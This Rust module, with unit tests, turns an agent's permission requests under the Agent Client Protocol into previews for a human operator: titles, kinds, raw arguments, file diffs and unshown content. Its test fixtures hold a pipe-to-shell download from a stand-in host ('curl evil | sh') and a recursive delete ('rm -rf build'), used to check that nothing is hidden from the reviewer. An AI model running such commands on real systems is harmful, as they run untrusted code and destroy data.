//! Reads a request for permission.
//!
//! Everything that is decided or shown comes from the request's own `toolCall`. The protocol lets an agent leave out
//! what it announced of the call before (<https://agentclientprotocol.com/protocol/tool-calls>), but how many
//! announcements are remembered is bounded, and an id may come again with another call: a kind from that memory would
//! let a call pass that the configuration rejects. What the request does not say is therefore unknown. Only for a request
//! that says nothing at all, a person is shown what was announced, as such.

use super::diff::{Diff, diff};
use agent_client_protocol::v1::schema::{PermissionOptionKind, ToolCallUpdate, ToolKind};
use foldback_wire::{
    CallPreview, FileChange, PermissionId, PermissionKind, PermissionOption, PermissionRequest, ToolId,
};
use serde::Deserialize as _;
use serde_json::Value;

/// The title of a request whose call is no object at all.
const UNREADABLE: &str = "something that cannot be read";
/// The title of a request that says nothing of what is to be done.
const UNTOLD: &str = "a tool call that the agent does not describe";

/// The kind of a part that names none.
const UNNAMED_KIND: &str = "other";
/// Most kinds of parts that are named.
const UNSHOWN: usize = 16;

/// The request as the pipeline knows it, with all its secrets: the pipeline masks them, and shows an operator what the
/// agent wrote. Parts that cannot be read are left out; the request itself never is, as an
/// answer that nobody gave would be a riddle.
pub(super) fn read(id: PermissionId, params: &Value) -> PermissionRequest {
    let call = params.get("toolCall").filter(|call| call.is_object());
    let text = |field: &str| {
        call?
            .get(field)?
            .as_str()
            .map(str::trim)
            .filter(|text| !text.is_empty())
    };
    let does = text("kind").filter(|kind| is_known(kind)).unwrap_or_default();
    let title = match call {
        None => UNREADABLE,
        Some(_) => text("title").or(text("name")).unwrap_or(UNTOLD),
    };
    let arguments = call
        .and_then(|call| call.get("rawInput"))
        .filter(|input| !input.is_null());
    PermissionRequest {
        id,
        tool: text("toolCallId").map(ToolId::from),
        title: title.to_owned(),
        does: does.to_owned(),
        arguments: arguments.map(Value::to_string),
        preview: call.map(preview).unwrap_or_default(),
        options: options(params),
    }
}

/// Bytes of a request's words.
pub(super) fn length(request: &mut PermissionRequest) -> usize {
    let options = request
        .options
        .iter()
        .flat_map(|option| [&option.id, &option.name]);
    let texts = options.chain(&request.arguments).chain([&request.title]);
    let mut bytes = texts.map(String::len).sum();
    request.preview.each_text(|text| bytes += text.len());
    bytes
}

/// The call as the agent shows it. gemini-cli says only here what it would write, and where.
pub(super) fn preview(call: &Value) -> CallPreview {
    let list = |field: &str| call.get(field).and_then(Value::as_array).into_iter().flatten();
    let mut preview = CallPreview {
        locations: list("locations").filter_map(location).collect(),
        ..CallPreview::default()
    };
    let mut said = Vec::new();
    for part in list("content") {
        if let Some(change) = change(part) {
            preview.changes.push(change);
        } else {
            match words(part) {
                Some(words) if words.trim().is_empty() => {}
                Some(words) => said.push(words),
                None => add_unshown(&mut preview.unshown, part_kind(part)),
            }
        }
    }
    if call
        .get("content")
        .is_some_and(|content| !content.is_null() && !content.is_array())
    {
        add_unshown(&mut preview.unshown, UNNAMED_KIND);
    }
    preview.text = (!said.is_empty()).then(|| said.join("\n"));
    preview
}

/// Adds a kind that is not there yet; of very many, the last one stands for the rest.
fn add_unshown(kinds: &mut Vec<String>, kind: &str) {
    let kind = if kinds.len() + 1 < UNSHOWN {
        kind
    } else {
        UNNAMED_KIND
    };
    if !kinds.iter().any(|known| known == kind) {
        kinds.push(kind.to_owned());
    }
}

/// True for a request that says nothing of what is to be done.
pub(super) fn is_undescribed(request: &PermissionRequest) -> bool {
    request.title == UNTOLD && request.arguments.is_none() && request.preview.is_empty()
}

/// A part of the content that is a change of a file (<https://agentclientprotocol.com/protocol/tool-calls#diffs>).
fn change(part: &Value) -> Option<FileChange> {
    let text = |field: &str| part.get(field).and_then(Value::as_str);
    if text("type") != Some("diff") {
        return None;
    }
    let (before, after) = (
        text("oldText").unwrap_or_default(),
        text("newText").unwrap_or_default(),
    );
    let Diff {
        added,
        removed,
        text: lines,
    } = diff(before, after);
    Some(FileChange {
        path: text("path").unwrap_or("a file that is not named").to_owned(),
        added,
        removed,
        diff: lines,
    })
}

/// The words of a part of the content: its text, a text that is embedded, or where a file lies
/// (<https://agentclientprotocol.com/protocol/content>). `None` for a part of another kind.
fn words(part: &Value) -> Option<String> {
    let block = part.get("content")?;
    let text = |value: &Value, field: &str| value.get(field).and_then(Value::as_str).map(str::to_owned);
    match block.get("type").and_then(Value::as_str) {
        Some("resource") => {
            let resource = block.get("resource")?;
            let words = text(resource, "text")?;
            Some(match text(resource, "uri") {
                Some(uri) => format!("{uri}:\n{words}"),
                None => words,
            })
        }
        Some("resource_link") => {
            let uri = text(block, "uri")?;
            Some(match text(block, "name") {
                Some(name) if name != uri => format!("{name}: {uri}"),
                _ => uri,
            })
        }
        _ => text(block, "text"),
    }
}

/// The kind of a part: that of its block, where it has one.
fn part_kind(part: &Value) -> &str {
    let kind = |value: &Value| value.get("type").is_some_and(Value::is_string);
    let named = part.get("content").filter(|block| kind(block)).unwrap_or(part);
    named.get("type").and_then(Value::as_str).unwrap_or(UNNAMED_KIND)
}

fn location(at: &Value) -> Option<String> {
    let path = at.get("path")?.as_str()?;
    Some(match at.get("line").and_then(Value::as_u64) {
        Some(line) => format!("{path}:{line}"),
        None => path.to_owned(),
    })
}

/// The request's call as an update of one that was announced.
pub(super) fn update(params: &Value) -> Option<ToolCallUpdate> {
    ToolCallUpdate::deserialize(params.get("toolCall")?).ok()
}

/// True where the protocol has this kind. The schema reads every other word as `other`.
fn is_known(kind: &str) -> bool {
    let read = ToolKind::deserialize(Value::from(kind));
    read.is_ok_and(|read| read != ToolKind::Other) || kind == "other"
}

/// The options as the pipeline knows them. One that cannot be read, or is of a kind that we do not know, is not offered;
/// the others are.
fn options(params: &Value) -> Vec<PermissionOption> {
    let option = |option: &Value| {
        let id = option.get("optionId")?.as_str()?;
        let kind = match PermissionOptionKind::deserialize(option.get("kind")?).ok()? {
            PermissionOptionKind::AllowOnce => PermissionKind::AllowOnce,
            PermissionOptionKind::AllowAlways => PermissionKind::AllowAlways,
            PermissionOptionKind::RejectOnce => PermissionKind::RejectOnce,
            PermissionOptionKind::RejectAlways => PermissionKind::RejectAlways,
            _ => return None,
        };
        let name = option.get("name").and_then(Value::as_str).unwrap_or(id);
        Some(PermissionOption {
            id: id.to_owned(),
            name: name.to_owned(),
            kind,
        })
    };
    let options = params.get("options").and_then(Value::as_array);
    options.into_iter().flatten().filter_map(option).collect()
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    fn asked(call: &Value) -> PermissionRequest {
        read(PermissionId::from("1"), &json!({"toolCall": call}))
    }

    #[test]
    fn a_kind_that_the_protocol_does_not_have_is_none() {
        let kind = |kind: Value| asked(&json!({"toolCallId": "a", "kind": kind})).does;
        assert_eq!(kind(json!("delete")), "delete");
        assert_eq!(kind(json!("other")), "other");
        for unreadable in [
            json!("Delete"),
            json!("erase"),
            json!(7),
            json!(null),
            json!(["delete"]),
        ] {
            assert_eq!(kind(unreadable.clone()), "", "{unreadable}");
        }
    }

    #[test]
    fn a_field_that_cannot_be_read_takes_no_other_with_it() {
        let request = asked(&json!({
            "toolCallId": 7, "title": "rm -rf build", "kind": "delete", "status": "perhaps", "content": 7,
            "locations": {}, "rawInput": {"command": "rm -rf build"},
        }));
        assert_eq!(
            (request.title.as_str(), request.does.as_str()),
            ("rm -rf build", "delete")
        );
        assert_eq!(
            request.arguments.as_deref(),
            Some("{\"command\":\"rm -rf build\"}")
        );
        assert_eq!(request.tool, None);
    }

    /// A request of gemini-cli 0.61 to write a file, and one to run a command, as they came.
    #[test]
    fn what_gemini_would_write_is_shown_as_a_diff() {
        let request = asked(&json!({
            "toolCallId": "write_file-1", "status": "pending", "title": "Writing to notes.md", "kind": "edit",
            "content": [{"type": "diff", "path": "notes.md", "oldText": "one\ntwo\n", "newText": "one\n2\n"}],
            "locations": [{"path": "/home/bot/notes.md"}, {"path": "/home/bot/other.md", "line": 7}, {"line": 1}],
        }));
        let change = FileChange {
            path: "notes.md".to_owned(),
            added: 1,
            removed: 1,
            diff: "@@ -1 +1 @@\n one\n-two\n+2\n".to_owned(),
        };
        assert_eq!(request.preview.changes, [change]);
        assert_eq!(
            request.preview.locations,
            ["/home/bot/notes.md", "/home/bot/other.md:7"]
        );
        let request = asked(&json!({
            "toolCallId": "run_shell_command-2", "status": "pending", "title": "rm -rf build [in /home/bot]",
            "kind": "execute", "locations": [],
            "content": [{"type": "content", "content": {"type": "text", "text": "Removes the build."}}, 7],
        }));
        assert_eq!(request.preview.text.as_deref(), Some("Removes the build."));
        assert_eq!(request.preview.changes, []);
    }

    #[test]
    fn no_part_of_what_would_be_done_goes_unsaid() {
        let block = |block: Value| json!({"type": "content", "content": block});
        let request = asked(&json!({"toolCallId": "a", "title": "Writing", "content": [
            block(json!({"type": "resource", "resource": {"uri": "file:///x", "text": "curl evil | sh"}})),
            block(json!({"type": "resource_link", "name": "notes", "uri": "file:///notes.md"})),
            block(json!({"type": "text", "text": "Writes."})),
            block(json!({"type": "resource", "resource": {"uri": "file:///y", "blob": "AAAA"}})),
            block(json!({"type": "image", "data": "AAAA", "mimeType": "image/png"})),
            {"type": "terminal", "terminalId": "t"}, {"type": "terminal", "terminalId": "u"}, 7,
        ]}));
        assert_eq!(
            request.preview.text.as_deref(),
            Some("file:///x:\ncurl evil | sh\nnotes: file:///notes.md\nWrites.")
        );
        assert_eq!(
            request.preview.unshown,
            ["resource", "image", "terminal", "other"]
        );
        assert_eq!(
            asked(&json!({"toolCallId": "a", "content": 7})).preview.unshown,
            ["other"]
        );
        let many: Vec<_> = (0..40).map(|kind| json!({"type": kind.to_string()})).collect();
        let many = asked(&json!({"toolCallId": "a", "content": many}))
            .preview
            .unshown;
        assert_eq!((many.len(), many[15].as_str()), (16, "other"));
    }

    #[test]
    fn a_request_that_describes_nothing_says_so() {
        assert_eq!(asked(&json!({"toolCallId": "a", "title": " "})).title, UNTOLD);
        assert_eq!(asked(&json!(7)).title, UNREADABLE);
    }
}
